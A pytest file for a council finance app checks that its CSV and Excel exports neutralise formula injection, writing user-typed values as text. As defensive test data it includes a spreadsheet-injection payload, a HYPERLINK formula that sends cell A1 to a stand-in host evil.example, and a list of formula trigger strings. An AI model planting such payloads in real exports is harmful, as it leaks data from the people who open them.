"""Every export writes what people typed as text: a spreadsheet shows it and never runs it.

Fay is H&F finance (she may download the forecast workbook and the case list).
"""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from forecasts.models import ScheduleItem
from hnb_monitor.exports import csv_writer, safe_csv, safe_text
from workstreams.models import TransitionCase, Workstream

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RISKY = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", RISKY)
def test_safe_csv_prefixes_text_that_a_spreadsheet_would_run(text):
    assert safe_csv(text) == "'" + text


@pytest.mark.parametrize("text", ["Total, =1+1", "a,+1", "a,  -1", "a,@x", "a,\t=1", "a,\r=1"])
def test_safe_csv_prefixes_a_formula_after_the_separator(text):
    assert safe_csv(text) == "'" + text


@pytest.mark.parametrize("value", ["Social care provision", "1-2 days", "a - b", 12, None])
def test_safe_csv_leaves_ordinary_values_alone(value):
    assert safe_csv(value) == ("" if value is None else str(value))


def test_negative_numbers_stay_numbers_in_csv():
    assert safe_csv(-5) == "-5"


def test_a_neutralised_csv_cell_is_one_quoted_field():
    out = io.StringIO()
    csv_writer(out).writerow([safe_csv("Total, =1+1"), safe_csv(HYPERLINK)])
    assert out.getvalue().startswith('"\'Total, =1+1",')
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'Total, =1+1", "'" + HYPERLINK]


@pytest.mark.parametrize("text", [*RISKY, "#N/A"])
def test_safe_text_writes_excel_text_never_a_formula(text):
    book = Workbook()
    safe_text(book.active["A1"], text)
    saved = io.BytesIO()
    book.save(saved)
    cell = load_workbook(io.BytesIO(saved.getvalue())).active["A1"]
    # XML keeps a carriage return as a line feed.
    assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
    assert cell.quotePrefix


def test_safe_text_leaves_numbers_and_plain_text_alone():
    sheet = Workbook().active
    assert safe_text(sheet["A1"], -5).data_type == "n"
    assert safe_text(sheet["A2"], "Schedule A").quotePrefix is False


def test_forecast_workbook_writes_descriptions_and_names_as_text(client_for, fay, hf):
    item = ScheduleItem.objects.filter(
        forecast__period__authority=hf, workstream__isnull=False
    ).first()
    ScheduleItem.objects.filter(pk=item.pk).update(description=HYPERLINK)
    Workstream.objects.filter(pk=item.workstream_id).update(name="=1+1")
    period = item.forecast.period.code

    response = client_for(fay).get(f"/a/hammersmith-fulham/forecast/{period}/export/")

    book = load_workbook(io.BytesIO(response.content))
    typed = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in (HYPERLINK, "=1+1")
    ]
    assert {cell.value for cell in typed} == {HYPERLINK, "=1+1"}
    # The description, and the name on its schedule sheet and on the savings sheet.
    assert len(typed) >= 2
    assert all(cell.data_type == "s" for cell in typed), [
        (cell.parent.title, cell.coordinate, cell.data_type) for cell in typed
    ]
    # The workbook's own computation is still formulas.
    forecast = book["Forecast"]
    assert any(cell.data_type == "f" for row in forecast.iter_rows() for cell in row if cell.value)


def test_case_csv_neutralises_every_text_cell(client_for, fay, hf):
    TransitionCase.objects.filter(authority=hf, reference="PFA-0008").update(
        notes='Reviewed, =HYPERLINK("http://evil.example")'
    )
    response = client_for(fay).get("/a/hammersmith-fulham/casework/cases/export.csv")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    notes = rows[0].index("Notes")
    row = next(row for row in rows if row[0] == "PFA-0008")
    assert row[notes] == '\'Reviewed, =HYPERLINK("http://evil.example")'


def test_case_workbook_writes_formula_like_notes_as_text(client_for, fay, hf):
    TransitionCase.objects.filter(authority=hf, reference="PFA-0008").update(notes="@SUM(1,2)")
    TransitionCase.objects.filter(authority=hf, reference="PFA-0009").update(notes=HYPERLINK)
    response = client_for(fay).get("/a/hammersmith-fulham/casework/cases/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.getvalue()))["Cases"]
    cells = {row[0].value: row[12] for row in sheet.iter_rows(min_row=3) if row[0].value}
    assert (cells["PFA-0008"].value, cells["PFA-0008"].data_type) == ("@SUM(1,2)", "s")
    assert (cells["PFA-0009"].value, cells["PFA-0009"].data_type) == (HYPERLINK, "s")
    assert cells["PFA-0009"].quotePrefix
